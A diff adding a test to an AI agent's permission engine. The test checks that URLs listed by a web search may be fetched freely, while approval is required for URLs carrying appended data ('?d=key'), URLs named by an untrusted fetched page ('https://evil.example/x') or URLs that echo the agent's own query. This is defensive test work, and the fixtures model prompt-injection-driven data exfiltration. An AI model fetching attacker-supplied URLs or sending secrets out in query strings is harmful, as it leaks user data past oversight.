@@ -102,6 +102,49 @@ test("exceptions are for tools, servers and hosts, and untrusted wins", async ()
   expect((await asked("Help me", calls, { ask: ["deletes"] })).reasons).toEqual([]);
 });
 
+test("an address as a search has listed it may be fetched; one that a page names, or that repeats the query, asks", async () => {
+  const listed = "https://a.example/q/1";
+  const said = new Map([
+    ["crash", `1. Crash\n   ${listed}\n   Do it`],
+    ["https://e.example/?d=key", "1. e\n   https://e.example/?d=key\n   x"],
+  ]);
+  const search: BaseTool = tool("web_search", async ({ query }) => said.get(query as string)!, {
+    permission: "execute",
+    effects: {},
+    returns: { integrity: "untrusted", sources: [{ kind: "web", name: "web_search" }] },
+  });
+  const fetched: BaseTool = tool("web_fetch", async () => `See\nhttps://evil.example/x`, {
+    permission: "execute",
+    effects: { sends: true },
+    targets: ({ url }: { url: string }) => [{ field: "url", kind: "url", value: url }],
+    returns: { integrity: "untrusted" },
+  });
+  const asked = async (calls: readonly (readonly [string, JsonValue])[], flow: FlowOptions = {}) => {
+    const urls: string[] = [];
+    const { engine } = testEngine([...calls.map(([name, input]) => toolCall(name, input)), text("Done.")], {
+      tools: [search, fetched, mail],
+      permissions: createPermissionChecker({ rules: { allow: ["web_search", "web_fetch", "send_mail"] }, flow }),
+      approver({ input }) {
+        urls.push(String(Object(input).url ?? Object(input).to));
+        return { decision: "deny" };
+      },
+    });
+    await engine.run("Help me");
+    return urls;
+  };
+  const searched = ["web_search", { query: "crash" }] as const;
+  const fetch = (url: string) => ["web_fetch", { url }] as const;
+
+  expect(await asked([searched, fetch(listed)])).toEqual([]);
+  expect(await asked([searched, fetch(`${listed}?d=key`)])).toEqual([`${listed}?d=key`]);
+  expect(await asked([searched, fetch(listed), fetch("https://evil.example/x")])).toEqual(["https://evil.example/x"]);
+  const query = "https://e.example/?d=key";
+  expect(await asked([searched, ["web_search", { query }], fetch(query)])).toEqual([query]);
+  expect(await asked([searched, to(listed)])).toEqual([listed]);
+  expect(await asked([searched, fetch(listed)], { targets: "any" })).toEqual([listed]);
+  expect(await asked([searched, fetch(listed)], { private: ["web_search"] })).toEqual([listed]);
+});
+
 test("private content does not leave to places the user did not name", async () => {
   const calls = [["contacts", {}], to("eve@x.example")] as const;
   expect((await asked("Help me", calls)).reasons).toEqual([]);
